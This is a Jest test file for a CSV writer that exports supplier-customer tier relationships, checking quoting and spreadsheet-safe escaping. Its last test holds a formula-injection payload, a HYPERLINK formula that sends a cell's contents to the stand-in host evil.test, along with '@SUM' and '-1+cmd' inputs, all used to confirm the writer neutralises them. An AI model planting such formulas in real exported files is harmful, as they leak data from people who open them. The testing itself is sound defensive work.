import { csvRecord } from '../../src/domain/csv-text';
import { TIERVIEW_COLUMNS, TierviewLines, tierviewRecord } from '../../src/domain/tierview';
import type { TierCompany, TierRelationship } from '../../src/domain/tier-walk';
import { buildTierCompany } from '../support/factories';

function company(vid: string, tier: number, fields: Partial<TierCompany> = {}): TierCompany {
  return buildTierCompany({ vid, tier, name: `Name of ${vid}`, ...fields });
}

function rel(supplier: TierCompany, customer: TierCompany, fields: Partial<TierRelationship> = {}) {
  const r: TierRelationship = {
    supplier,
    customer,
    edge_id: `e-${supplier.vid}-${customer.vid}`,
    confidence_score: 0.5,
    status_code: 1,
    hs_codes: [],
    evidence_types: ['text'],
    latest_evidence_date: '2024-01-10',
    cluster_edge_id: null,
    ...fields,
  };
  return r;
}

describe('TierviewLines', () => {
  const root = company('root', 0, { company_legal_name: 'Root, "Legal" Inc.' });
  const near = company('near', 1, { name: 'Near\r\nLines', cid_id: 'K1' });
  const far = company('far', 2, { company_legal_name: '  ', name: 'Ünïcödé 株式会社' });
  const shared = Object.freeze(['8471', '=8542']);
  const sharedTypes = Object.freeze(['customs, filed', 'news']);
  const cases: TierRelationship[] = [
    rel(near, root),
    rel(far, near, {
      confidence_score: null,
      status_code: null,
      hs_codes: ['8471', '8542'],
      evidence_types: [],
      latest_evidence_date: null,
      cluster_edge_id: 'far~K1',
    }),
    rel(far, root, {
      edge_id: 'e,with"quote',
      confidence_score: 0,
      status_code: 0,
      evidence_types: ['a', 'b'],
    }),
    // The same companies again: their encoded fields are reused.
    rel(near, root, { edge_id: 'e-again', confidence_score: 1e-7 }),
    // Lists a store shares between rows (frozen) are encoded once, and still quoted as they must be.
    rel(far, root, { hs_codes: shared, evidence_types: sharedTypes }),
    rel(near, root, { hs_codes: shared, evidence_types: sharedTypes, edge_id: 'é-non-ascii' }),
  ];

  const line = (lines: TierviewLines, r: TierRelationship) => lines.rows([r]).toString('utf8');

  it('writes each row as the generic record writer does, column for column', () => {
    const lines = new TierviewLines(root);
    for (const r of cases) expect(line(lines, r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r)));
    // A batch is its rows one after the other.
    expect(new TierviewLines(root).rows(cases).toString('utf8')).toBe(
      cases.map((r) => csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r))).join(''),
    );
  });

  it('quotes what needs quoting and puts the nearer company in the customer columns', () => {
    expect(line(new TierviewLines(root), cases[1]!)).toBe(
      '"Root, ""Legal"" Inc.",root,1,"Near\r\nLines",near,K1,2,Ünïcödé 株式会社,far,far,e-far-near,far~K1,,8471|8542,,,\r\n',
    );
  });

  it('writes a file for a spreadsheet as the record writer does, no text starting like a formula', () => {
    const hostile = company('evil', 1, {
      name: '=HYPERLINK("https://evil.test/?x="&A2,"Open")',
      cid_id: 'K9',
    });
    const sheet = new TierviewLines(root, true);
    for (const r of [...cases, rel(hostile, root, { edge_id: '@SUM(1+1)' })])
      expect(line(sheet, r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r), true));
    const row = line(sheet, rel(hostile, root, { edge_id: '-1+cmd' }));
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.test/?x=""&A2,""Open"")",evil,K9,`);
    expect(row).toContain(",'-1+cmd,");
    // Numbers stay numbers; for other programs, text stays as it is.
    expect(row).toContain(',0.5,');
    expect(line(new TierviewLines(root), rel(hostile, root))).toContain(',"=HYPERLINK(');
  });
});
